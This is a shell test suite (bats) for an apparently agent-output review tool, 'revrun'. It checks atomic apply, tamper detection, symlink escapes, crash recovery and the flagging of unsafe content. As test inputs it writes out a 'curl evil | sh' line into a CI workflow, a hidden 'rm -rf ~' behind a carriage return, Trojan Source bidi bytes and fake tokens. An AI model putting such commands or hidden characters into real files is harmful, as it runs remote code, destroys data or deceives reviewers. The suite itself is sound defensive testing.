#!/usr/bin/env bats
# Approval and apply: the digest, conflicts with TARGET, symlinks in TARGET,
# tampered exports, faults half way (a full filesystem, a failing write, a
# failing rename at every step of the commit, EACCES): TARGET ends either as
# the merged view or exactly as it was.

load helpers
load wb_helpers

setup() {
    wb_setup
}

teardown() {
    rr_teardown_tmp
}

# A change set of every kind: modify, delete, a directory deleted, add,
# chmod +x, a symlink, an empty directory.
agent_mix() {
    wb_agent user 'printf "more\n" >> README && rm keep.txt && rm -r docs/old &&
        printf "new\n" > src/new.c && chmod +x src/lib/lib.c && ln -s README readme-link &&
        mkdir empty'
}

export_mix() {
    agent_mix
    wb_target
    DIGEST=$(wb_digest)
    run wb_revrun export $(wb_pair) "$WB/out"
    assert_success
    BEFORE=$(wb_state "$WB/target")
}

no_stage_left() {
    ! ls -a "$WB/target" | grep -q '^\.revrun-apply-' || false
}

@test "apply: exit 0 and the merged view; JSON holds digest, verdict and changes" {
    export_mix
    run wb_revrun diff --json $(wb_pair)
    assert_success
    printf '%s' "$output" | python3 -c '
import json, sys
d = json.load(sys.stdin)
assert d["verdict"] == "accept" and len(d["digest"]) == 64
kinds = sorted(c["kind"] for c in d["changes"])
assert {"modify", "delete", "dir-delete", "add", "mode", "symlink", "dir-add"} <= set(kinds), kinds'
    run wb_revrun diff $(wb_pair)
    [ "${lines[-1]}" = "digest: $DIGEST" ]
    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    assert_success
    diff <(wb_view "$WB/target") <(wb_merged_view)
    no_stage_left
}

@test "apply: no change is exit 0" {
    wb_agent user 'cat README >/dev/null'
    run wb_revrun diff $(wb_pair)
    assert_success
    assert_output_contains "0 changes"
}

@test "apply: a digest that is not this change set's applies nothing" {
    export_mix
    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$(printf '0%.0s' $(seq 64))"
    [ "$status" -eq 7 ]
    assert_output_contains "not the digest"
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
}

@test "apply: TARGET no longer holds the base: refused, every conflict named" {
    export_mix
    printf 'edited\n' >>"$WB/target/README"
    printf 'untracked\n' >"$WB/target/docs/old/build.log"
    BEFORE=$(wb_state "$WB/target")
    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    [ "$status" -eq 6 ]
    assert_output_contains "README: TARGET's content is not the base"
    assert_output_contains "docs/old: TARGET's directory holds paths the change set does not remove"
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
}

@test "apply: a second apply of the same set is 'already applied', not a double write" {
    export_mix
    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    assert_success
    BEFORE=$(wb_state "$WB/target")
    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    assert_success
    assert_output_contains "already applied"
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
}

@test "apply: a symlinked directory in TARGET cannot steer a write outside it" {
    export_mix
    mkdir "$WB/outside"
    cp -a "$WB/target/src/." "$WB/outside/"
    rm -r "$WB/target/src"
    ln -s "$WB/outside" "$WB/target/src"
    BEFORE=$(wb_state "$WB/target")
    OUTSIDE=$(wb_state "$WB/outside")
    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    [ "$status" -eq 6 ]
    assert_output_contains "src/new.c: a symlink in TARGET is on its path"
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
    [ "$OUTSIDE" = "$(wb_state "$WB/outside")" ]
}

@test "apply: a tampered blob is caught while copying; TARGET restored" {
    export_mix
    # every blob (the new contents apply copies, and the base contents the
    # export keeps for the patch)
    for blob in "$WB"/out/blobs/*; do printf 'evil\n' >"$blob"; done
    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    [ "$status" -eq 1 ]
    assert_output_contains "not what was vetted"
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
    no_stage_left
}

@test "apply: a tampered manifest no longer has the approved digest" {
    export_mix
    sed -i 's/"src\/new.c"/"src\/new.d"/' "$WB/out/manifest.json"
    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    [ "$status" -eq 1 ]
    assert_output_contains "recorded digest is not the digest"
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
}

@test "apply: a manifest forged with a .git path and a matching digest writes nothing" {
    export_mix
    python3 - "$WB/out" <<'PY'
import hashlib, json, sys
d = sys.argv[1]
m = json.load(open(d + "/manifest.json"))
for c in m["changes"]:
    if c["path"] == "src/new.c":
        c["path"] = ".git/hooks/pre-commit"
m["changes"].sort(key=lambda c: c["path"].replace("/", "\0").encode())
canon = json.dumps({"version": 1, "changes": m["changes"]}, separators=(",", ":"), ensure_ascii=False)
m["digest"] = hashlib.sha256(canon.encode()).hexdigest()
json.dump(m, open(d + "/manifest.json", "w"))
print(m["digest"], file=open(d + "/forged", "w"))
PY
    run wb_revrun apply "$WB/out" --to "$WB/target" --approve "$(cat "$WB/out/forged")"
    [ "$status" -eq 1 ]
    assert_output_contains ".git/hooks/pre-commit: touches .git"
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
}

@test "fault: a full filesystem while staging leaves TARGET as it was" {
    wb_agent user 'head -c 3000000 /dev/zero > big.bin && printf "more\n" >> README && rm keep.txt'
    mkdir "$WB/small"
    mount -t tmpfs -o size=2m tmpfs "$WB/small"
    cp -a "$WB/lower" "$WB/small/target"
    BEFORE=$(wb_state "$WB/small/target")
    run wb_revrun writeback $(wb_pair) --to "$WB/small/target" --approve "$(wb_digest)"
    [ "$status" -eq 1 ]
    assert_output_contains "No space left on device"
    [ "$BEFORE" = "$(wb_state "$WB/small/target")" ]
    ! ls -a "$WB/small/target" | grep -q '^\.revrun-apply-' || false
    umount "$WB/small"
}

@test "fault: a write that fails half way through staging leaves TARGET as it was" {
    export_mix
    # LeakSanitizer cannot run under ptrace: a sanitized build is told so.
    run env ASAN_OPTIONS=detect_leaks=0 strace -f -qq -o /dev/null -e trace=write -e inject=write:error=EIO:when=2 \
        "$RR_BIN/revrun" apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    [ "$status" -eq 1 ]
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
    no_stage_left
}

@test "fault: a rename that fails at any step of the commit is rolled back" {
    export_mix
    for n in $(seq 1 12); do
        run env ASAN_OPTIONS=detect_leaks=0 strace -f -qq -o /dev/null -e trace=renameat2 -e inject=renameat2:error=EIO:when=$n \
            "$RR_BIN/revrun" apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
        if [ "$status" -eq 0 ]; then
            break # n is past the last rename of the commit: it went through
        fi
        [ "$status" -eq 1 ] || { echo "step $n: $output" >&2; false; }
        [ "$BEFORE" = "$(wb_state "$WB/target")" ] || { echo "step $n changed TARGET" >&2; false; }
        no_stage_left
    done
    [ "$n" -gt 5 ] # the loop did reach into the commit
    diff <(wb_view "$WB/target") <(wb_merged_view)
}

@test "fault: EACCES half way through the commit (rootless) is rolled back" {
    export_mix
    chown -R "$REVRUN_TEST_UID:$REVRUN_TEST_GID" "$WB/target" "$WB/out"
    chmod 0555 "$WB/target/src"
    BEFORE=$(wb_state "$WB/target")
    run as_user "$RR_BIN/revrun" apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    [ "$status" -eq 1 ]
    assert_output_contains "Permission denied"
    assert_output_contains "restored"
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
    no_stage_left
}

@test "writeback: from a bare pair straight onto TARGET" {
    agent_mix
    wb_target
    run wb_revrun writeback $(wb_pair) --to "$WB/target" --approve "$(wb_digest)"
    assert_success
    diff <(wb_view "$WB/target") <(wb_merged_view)
}

@test "writeback: a live bundle's ID is refused until the runtime can open it" {
    run "$RR_BIN/revrun" --root "$RR_ROOT" diff no-such-bundle
    [ "$status" -eq 1 ]
    run "$RR_BIN/revrun" --root "$RR_ROOT" writeback no-such-bundle --to "$WB/lower" --approve x
    [ "$status" -eq 1 ]
}

@test "patch: git apply --check takes it on a clean checkout of the base" {
    wb_agent user 'printf "more\n" >> README && sed -i s/0/1/ src/main.c && rm keep.txt &&
        printf "new\n" > src/new.c && chmod +x src/lib/lib.c && ln -sfn src/main.c link &&
        ln -s README readme-link && printf "\\000\\001" >> blob.bin && printf "no newline" > nonl.txt &&
        rm -r docs/old && mkdir docs/old && echo x > docs/old/x &&
        rm -r src/lib && echo lib > src/lib && rm run.sh && mkdir run.sh && echo in > run.sh/in'
    run wb_revrun diff --patch $(wb_pair)
    assert_success
    printf '%s\n' "$output" >"$WB/change.patch"
    cp -a "$WB/lower" "$WB/git"
    rm -rf "$WB/git/.git"
    git() { command git -c safe.directory='*' -c user.name=t -c user.email=t@t -C "$WB/git" "$@"; }
    git init -q
    git add -A
    git commit -qm base
    git apply --check "$WB/change.patch"
    git apply "$WB/change.patch"
    rm -rf "$WB/git/.git" "$WB/lower/.git"
    diff <(wb_view "$WB/git") <(wb_merged_view)
}

# The patch as git apply takes it, on a clean git checkout of the base.
wb_git_apply() {
    cp -a "$WB/lower" "$WB/git"
    rm -rf "$WB/git/.git"
    git() { command git -c safe.directory='*' -c user.name=t -c user.email=t@t -C "$WB/git" "$@"; }
    git init -q
    git add -A
    git commit -qm base
    git apply --check "$1"
    git apply "$1"
    rm -rf "$WB/git/.git" "$WB/lower/.git"
    diff <(wb_view "$WB/git") <(wb_merged_view)
}

@test "patch: content a terminal would act on is shown as a binary patch with its reason, never raw" {
    printf 'ok\r\nline\n' >"$WB/lower/crlf.txt" # the checkout's own CR: the old side
    chown "$REVRUN_TEST_UID:$REVRUN_TEST_GID" "$WB/lower/crlf.txt"
    wb_agent user 'printf "echo safe\r# rm -rf ~\n" > cr.sh &&
        printf "x\033[2J\033]0;t\007y\n" > esc.txt &&
        { head -c 9000 /dev/zero | tr "\0" a; printf "\000late nul\n"; } > nul.txt &&
        printf "csi \302\233 31m\n" > c1.txt && printf "raw \233 31m\n" > c1raw.txt &&
        printf "if (admin) { \342\200\256 } \342\201\246 // x \342\201\251\n" > bidi.c &&
        printf "bad \377 utf8\n" > bad.txt && printf "vt \013 ff \014\n" > ctl.txt &&
        printf "ok\nline\n" > crlf.txt && printf "plain\tand tab\n" > fine.txt'
    # to a file: a NUL would not survive a shell variable
    wb_revrun diff --patch $(wb_pair) >"$WB/change.patch"
    output=$(cat "$WB/change.patch")
    for want in 'cr.sh: the new content holds a carriage return' \
        'esc.txt: the new content holds an escape character (ESC)' \
        'nul.txt: the new content holds a NUL byte' \
        'c1.txt: the new content holds a C1 control character' \
        'c1raw.txt: the new content holds a C1 control character (raw byte)' \
        'bidi.c: the new content holds a bidirectional control (Trojan Source: it reorders what is shown)' \
        'bad.txt: the new content holds bytes that are not UTF-8' \
        'ctl.txt: the new content holds a C0 control character' \
        'crlf.txt: the old content holds a carriage return'; do
        assert_output_contains "# revrun: $want: unsafe to print, shown as a binary patch"
    done
    assert_output_contains '+plain	and tab'
    # not one byte a terminal acts on or that reorders the text (names and
    # base85 are ASCII): no control but TAB and LF, nothing above 0x7e
    ! LC_ALL=C grep -qaP '[\x00-\x08\x0b-\x1f\x7f-\xff]' "$WB/change.patch" || false
    wb_git_apply "$WB/change.patch"
}

# wb_bounded CMD...: CMD under a 64 MiB address-space cap (prlimit --as), so
# it fails if its memory grows with the file. An ASan build reserves
# terabytes of address space and keeps freed memory in quarantine: there the
# command runs uncapped (the plain build's run is the one that pins the bound).
wb_bounded() {
    if ldd "$RR_BIN/revrun" 2>/dev/null | grep -q libasan; then
        "$@"
    else
        prlimit --as=$((64 << 20)) "$@"
    fi
}

@test "patch: memory stays bounded: 100 MiB of newlines, new, under a 64 MiB address-space cap" {
    wb_agent user 'head -c 104857600 /dev/zero | tr "\0" "\n" > big'
    wb_bounded "$RR_BIN/revrun" diff --patch $(wb_pair) >"$WB/big.patch"
    grep -q '^@@ -0,0 +1,104857600 @@$' "$WB/big.patch"
    [ "$(grep -c '^+$' "$WB/big.patch")" -eq 104857600 ]
}

@test "patch: memory stays bounded: 16 MiB of newlines, one changed, under a 64 MiB address-space cap; git apply takes it" {
    head -c $((16 << 20)) /dev/zero | tr '\0' '\n' >"$WB/lower/nl"
    chown "$REVRUN_TEST_UID:$REVRUN_TEST_GID" "$WB/lower/nl"
    wb_agent user 'python3 -c "
import sys
n = 16 << 20
f = open(\"nl\", \"wb\")
f.write(b\"\n\" * (n // 2) + b\"changed\n\" + b\"\n\" * (n - n // 2 - 8))
f.close()"'
    wb_bounded "$RR_BIN/revrun" diff --patch $(wb_pair) >"$WB/nl.patch"
    # one line changed in the middle, seven gone at the end: two hunks
    [ "$(grep -c '^@@' "$WB/nl.patch")" -eq 2 ]
    [ "$(grep -c '^+changed$' "$WB/nl.patch")" -eq 1 ]
    [ "$(grep -c '^-$' "$WB/nl.patch")" -eq 8 ]
    wb_git_apply "$WB/nl.patch"
}

@test "patch: a long edited file stays a correct diff past the window (git apply gives the new file)" {
    python3 -c '
import random, sys
random.seed(7)
lines = ["line %d %d\n" % (i, random.randint(0, 9)) for i in range(30000)]
open(sys.argv[1], "w").writelines(lines)
new = list(lines)
for k in range(400):
    i = random.randrange(len(new)); r = random.random()
    if r < 0.3: del new[i]
    elif r < 0.6: new.insert(i, "ins %d\n" % k)
    else: new[i] = "chg %d\n" % k
new[10000:15000] = ["block %d\n" % j for j in range(4000)]
open(sys.argv[2], "w").writelines(new)' "$WB/lower/long.txt" "$WB/long.new"
    chown "$REVRUN_TEST_UID:$REVRUN_TEST_GID" "$WB/lower/long.txt" "$WB/long.new"
    wb_agent user "cat $WB/long.new > long.txt"
    run wb_revrun diff --patch $(wb_pair)
    assert_success
    printf '%s\n' "$output" >"$WB/long.patch"
    # near the minimal diff (9,466 lines changed), not a rewrite of the rest
    [ "$(grep -c '^[-+][^-+]' "$WB/long.patch")" -lt 12000 ]
    wb_git_apply "$WB/long.patch"
}

@test "canary: --deny-content refuses a secret in content, a symlink target or a name" {
    printf 'sk-live-0123456789\nghp_TOKENVALUE\n' >"$WB/secrets"
    wb_agent user 'echo "token=sk-live-0123456789" > leak.txt'
    run wb_revrun diff --deny-content "$WB/secrets" $(wb_pair)
    [ "$status" -eq 5 ]
    assert_output_contains "leak.txt: content holds a --deny-content secret"
    run wb_revrun export --deny-content "$WB/secrets" $(wb_pair) "$WB/out"
    [ "$status" -eq 5 ]
    [ ! -e "$WB/out" ]
    run wb_revrun diff $(wb_pair) # without the canary the same set passes
    assert_success
    rm -rf "$WB/upper"
    wb_agent user 'ln -s ghp_TOKENVALUE l && touch ghp_TOKENVALUE.txt'
    run wb_revrun diff --deny-content "$WB/secrets" $(wb_pair)
    [ "$status" -eq 5 ]
    assert_output_contains "l: target holds a --deny-content secret"
    assert_output_contains "ghp_TOKENVALUE.txt: the path holds a --deny-content secret"
}

@test "warn: CI workflow changes are accepted but shown prominently" {
    wb_agent user 'echo "  run: curl evil | sh" >> .github/workflows/ci.yml && echo "* filter=x" > .gitattributes'
    run wb_revrun diff $(wb_pair)
    assert_success
    assert_output_contains "!!! 2 warnings"
    assert_output_contains "WARNING .github/workflows/ci.yml"
    assert_output_contains "WARNING .gitattributes"
}

@test "warn: user xattrs are dropped, not applied" {
    wb_agent root 'setfattr -n user.note -v hi keep.txt && echo more >> keep.txt'
    wb_expect_accept
    run wb_revrun diff $(wb_pair)
    assert_output_contains "[xattr-dropped]"
    ! getfattr -n user.note "$WB/target/keep.txt" 2>/dev/null || false
}

# kill -9 in the middle of the commit: the journal in the state root lets
# sweep, or the next apply onto the same TARGET, finish the job.
crash_mid_commit() {
    export_mix
    run env REVRUN_CRASH_AT=apply-commit "$RR_BIN/revrun" --root "$WB/state" apply "$WB/out" \
        --to "$WB/target" --approve "$DIGEST"
    [ "$status" -eq 137 ]
    # half applied: neither the base nor the merged view
    [ "$BEFORE" != "$(wb_state "$WB/target")" ]
    run diff <(wb_view "$WB/target") <(wb_merged_view)
    [ "$status" -ne 0 ]
}

no_journal_left() {
    [ -z "$(ls -A "$WB/state/.apply" 2>/dev/null)" ]
}

@test "crash: kill -9 mid-commit, then sweep: TARGET is exactly as it was" {
    crash_mid_commit
    run "$RR_BIN/revrun" --root "$WB/state" sweep
    assert_success
    assert_output_contains "swept an interrupted apply onto $WB/target: rolled back"
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
    no_stage_left
    no_journal_left
}

@test "crash: kill -9 mid-commit, then apply again: rolled back, then applied" {
    crash_mid_commit
    run "$RR_BIN/revrun" --root "$WB/state" apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    assert_success
    assert_output_contains "died mid-commit; rolled back"
    diff <(wb_view "$WB/target") <(wb_merged_view)
    no_stage_left
    no_journal_left
}

@test "crash: kill -9 after the commit: sweep keeps the change and removes the stage" {
    export_mix
    run env REVRUN_CRASH_AT=apply-committed "$RR_BIN/revrun" --root "$WB/state" apply "$WB/out" \
        --to "$WB/target" --approve "$DIGEST"
    [ "$status" -eq 137 ]
    ls -a "$WB/target" | grep -q '^\.revrun-apply-'
    run "$RR_BIN/revrun" --root "$WB/state" sweep
    assert_success
    assert_output_contains "it had completed"
    diff <(wb_view "$WB/target") <(wb_merged_view)
    no_stage_left
    no_journal_left
}

@test "crash: a stage planted in TARGET without a journal is never acted on" {
    export_mix
    # what a checkout could carry to make a recovery move its files around
    mkdir "$WB/target/.revrun-apply-0123456789abcdef"
    printf 'planted\n' >"$WB/target/.revrun-apply-0123456789abcdef/u0"
    BEFORE=$(wb_state "$WB/target")
    run "$RR_BIN/revrun" --root "$WB/state" sweep
    assert_success
    [ "$BEFORE" = "$(wb_state "$WB/target")" ]
    run "$RR_BIN/revrun" --root "$WB/state" apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
    assert_success
    [ "$(cat "$WB/target/.revrun-apply-0123456789abcdef/u0")" = planted ]
    [ ! -e "$WB/target/keep.txt" ]
}

# Every kind of change, replacements both ways included, for the kill loops.
export_every_kind() {
    wb_agent user 'printf "more\n" >> README && rm keep.txt && rm -r docs/old &&
        mkdir -p new/sub && printf "n\n" > new/sub/f && chmod +x src/lib/lib.c &&
        ln -sfn src/main.c link && ln -s README readme-link && mkdir empty &&
        rm run.sh && mkdir run.sh && printf "x\n" > run.sh/y &&
        rm -r src/lib && printf "was a dir\n" > src/lib'
    wb_target
    DIGEST=$(wb_digest)
    run wb_revrun export $(wb_pair) "$WB/out"
    assert_success
    BEFORE=$(wb_state "$WB/target")
    AFTER=$(cd "$WB" && cp -a target applied && "$RR_BIN/revrun" --root "$WB/state2" apply out \
        --to applied --approve "$DIGEST" >/dev/null && wb_state "$WB/applied")
}

# killed_at SYSCALL N ARGS...: revrun ARGS on state root $WB/state, killed
# at the Nth call of SYSCALL; 0 when it got that far (the call was made), 1
# when it finished first.
killed_at() {
    local sc=$1 n=$2
    shift 2
    env ASAN_OPTIONS=detect_leaks=0 strace -f -qq -o /dev/null -e trace="$sc" \
        -e inject="$sc":signal=SIGKILL:when="$n" \
        "$RR_BIN/revrun" --root "$WB/state" "$@" >/dev/null 2>&1
    [ $? -ne 0 ]
}

kill_apply() {
    killed_at "$1" "$2" apply "$WB/out" --to "$WB/target" --approve "$DIGEST"
}

# After the kills of one round (named by $1): a sweep makes TARGET whole and
# leaves no journal; TARGET is then the base again for the next round.
swept_whole() {
    "$RR_BIN/revrun" --root "$WB/state" sweep >/dev/null
    whole || { echo "$1: TARGET not whole" >&2; return 1; }
    no_journal_left || return 1
    rm -rf "$WB/target" && cp -a "$WB/lower" "$WB/target"
}

# TARGET is the base or the applied tree, nothing in between, no stage left.
whole() {
    local now
    now=$(wb_state "$WB/target")
    [ "$now" = "$BEFORE" ] || [ "$now" = "$AFTER" ] || return 1
    no_stage_left
}

@test "crash: kill -9 at every step of apply, then sweep: TARGET is whole every time" {
    export_every_kind
    local sc n killed=0
    for sc in renameat2 mkdirat writev fsync syncfs ftruncate; do
        for n in $(seq 1 40); do
            kill_apply "$sc" "$n" || { swept_whole "finished before $sc #$n"; break; }
            killed=$((killed + 1))
            swept_whole "killed at $sc #$n"
        done
    done
    [ "$killed" -ge 40 ] # the loops did reach into the commit
}

@test "crash: kill -9 in apply, then again in the recovery: the next sweep still makes it whole" {
    export_every_kind
    local n m sc killed=0
    for n in 4 9 13 14 19; do
        for sc in renameat2 unlinkat; do
            for m in 1 2 3 4 5 6; do
                kill_apply renameat2 "$n" || { swept_whole "finished before #$n"; continue; }
                killed=$((killed + 1))
                killed_at "$sc" "$m" sweep || true
                swept_whole "apply #$n, sweep $sc #$m"
            done
        done
    done
    # the apply makes 13 renames: #14 and #19 find it finished (and a
    # finished apply's TARGET is reset, not counted as a kill)
    [ "$killed" -ge 36 ]
}

@test "crash: kill -9 at a mkdir or journal write of apply, then at the recovery's settle: the next sweep makes it whole" {
    export_every_kind
    local sc n m killed=0
    for sc in mkdirat writev; do
        for n in $(seq 1 40); do
            kill_apply "$sc" "$n" || { swept_whole "finished before $sc #$n"; break; }
            for m in ftruncate renameat2; do
                killed=$((killed + 1))
                killed_at "$m" 1 sweep || true
            done
            swept_whole "apply $sc #$n"
        done
    done
    [ "$killed" -ge 20 ]
}
